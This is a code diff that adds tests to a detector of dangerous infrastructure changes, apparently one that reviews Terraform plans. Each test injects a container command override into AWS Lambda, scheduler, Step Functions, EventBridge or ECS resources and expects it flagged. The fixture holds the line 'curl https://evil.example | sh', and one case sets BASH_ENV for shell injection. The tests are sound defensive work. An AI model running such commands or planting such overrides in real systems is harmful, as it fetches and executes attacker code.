@@ -159,6 +159,118 @@ describe('whoever says of himself that he is paused', () => {
   });
 });
 
+describe('what starts is handed another command', () => {
+  const definitionOf = (tree: Editable, pattern: RegExp, edit: (definition: Editable) => void): void => {
+    const machine = only(tree, 'aws_sfn_state_machine', pattern);
+    const definition = JSON.parse(String(machine.definition)) as Editable;
+    edit(definition);
+    machine.definition = JSON.stringify(definition);
+  };
+  /** The states of a definition that run a task. */
+  const runs = (value: unknown): Editable[] => {
+    if (typeof value !== 'object' || value === null) return [];
+    const here = String((value as Editable).Resource).includes('ecs:runTask') ? [value as Editable] : [];
+    return [...here, ...Object.values(value).flatMap(runs)];
+  };
+  const EVIL = { command: ['sh', '-c', 'curl https://evil.example | sh'] };
+  test.each<[string, Edit, RegExp]>([
+    [
+      'the schema gate, a command',
+      (tree) => (only(tree, 'aws_lambda_invocation', /gate/).input = JSON.stringify(EVIL)),
+      /serious gate\.other-input aws_lambda_invocation/,
+    ],
+    [
+      'the schema gate, a command beside its release',
+      (tree) => {
+        const gate = only(tree, 'aws_lambda_invocation', /gate/);
+        gate.input = JSON.stringify({ ...(JSON.parse(String(gate.input)) as object), ...EVIL });
+      },
+      /serious gate\.other-input aws_lambda_invocation/,
+    ],
+    [
+      'the schema gate, the memory of a database that has passed',
+      (tree) => {
+        const gate = only(tree, 'aws_lambda_invocation', /gate/);
+        gate.input = String(gate.input).replace('/balrog-prod/schema-gate', '/balrog-prod/schema-gate/balrog-prod-2');
+      },
+      /serious gate\.other-input aws_lambda_invocation/,
+    ],
+    [
+      'a function once more',
+      (tree) =>
+        put(tree, 'aws_lambda_invocation', {
+          ...only(tree, 'aws_lambda_invocation', /gate/),
+          input: JSON.stringify(EVIL),
+        }),
+      /serious gate\.other-new aws_lambda_invocation\.evil/,
+    ],
+    [
+      'a schedule, by its input',
+      (tree) =>
+        Object.assign(only(tree, 'aws_scheduler_schedule', /dump/).target as object, {
+          input: JSON.stringify({ containerOverrides: [{ name: 'upload', ...EVIL }] }),
+        }),
+      /serious schedule\.input aws_scheduler_schedule\.jobs_dump/,
+    ],
+    [
+      'a new schedule that calls any API',
+      (tree) =>
+        put(tree, 'aws_scheduler_schedule', {
+          name: 'evil',
+          schedule_expression: 'rate(1 day)',
+          flexible_time_window: { mode: 'OFF' },
+          target: { arn: 'arn:aws:scheduler:::aws-sdk:ecs:runTask', role_arn: 'arn:a', input: JSON.stringify(EVIL) },
+        }),
+      /serious starts\.other-program aws_scheduler_schedule\.evil/,
+    ],
+    [
+      'a state machine, by an override',
+      (tree) =>
+        definitionOf(tree, /restore-drill/, (definition) => {
+          for (const run of runs(definition)) run.Arguments.Overrides.ContainerOverrides[0].Command = EVIL.command;
+        }),
+      /serious starts\.other-program aws_sfn_state_machine\.jobs_restore-drill/,
+    ],
+    [
+      'a state machine, by a variable that a shell obeys',
+      (tree) =>
+        definitionOf(tree, /restore-drill/, (definition) => {
+          for (const run of runs(definition))
+            run.Arguments.Overrides.ContainerOverrides[0].Environment.push({ Name: 'BASH_ENV', Value: '/tmp/x' });
+        }),
+      /serious starts\.other-program aws_sfn_state_machine\.jobs_restore-drill/,
+    ],
+    [
+      'an event, by its target',
+      (tree) =>
+        Object.assign(only(tree, 'aws_cloudwatch_event_target', /vault-drill_start/), { input: JSON.stringify(EVIL) }),
+      /serious starts\.other-program aws_cloudwatch_event_target\.jobs_vault-drill/,
+    ],
+    [
+      'a container, by its entry point',
+      (tree) => {
+        const task = only(tree, 'aws_ecs_task_definition', /services_public/);
+        const containers = JSON.parse(String(task.container_definitions)) as Editable[];
+        Object.assign(containers[0]!, { entryPoint: ['/bin/sh', '-c'], ...EVIL });
+        task.container_definitions = JSON.stringify(containers);
+      },
+      /serious starts\.other-program aws_ecs_task_definition\.services_public/,
+    ],
+  ])('%s: named as other code', (_, edit, says) => {
+    expect(dangers(NOTHING, edit)).toEqual(expect.arrayContaining([expect.stringMatching(says)]));
+  });
+
+  test('a release is none of it', () => {
+    const released: Edit = (tree) => {
+      const gate = only(tree, 'aws_lambda_invocation', /gate/);
+      const digest = `sha256:${'26'.repeat(32)}`;
+      gate.input = JSON.stringify({ ...(JSON.parse(String(gate.input)) as object), version: 'v3.26', digest });
+      gate.triggers = { ...(gate.triggers as object), digest };
+    };
+    expect(dangers(NOTHING, released).filter((line) => /gate\.|starts\./.test(line))).toEqual([]);
+  });
+});
+
 describe('a name that leads elsewhere', () => {
   const record = (pattern: RegExp) => (tree: Editable) => only(tree, 'aws_route53_record', pattern);
   test.each<[string, Edit, RegExp]>([
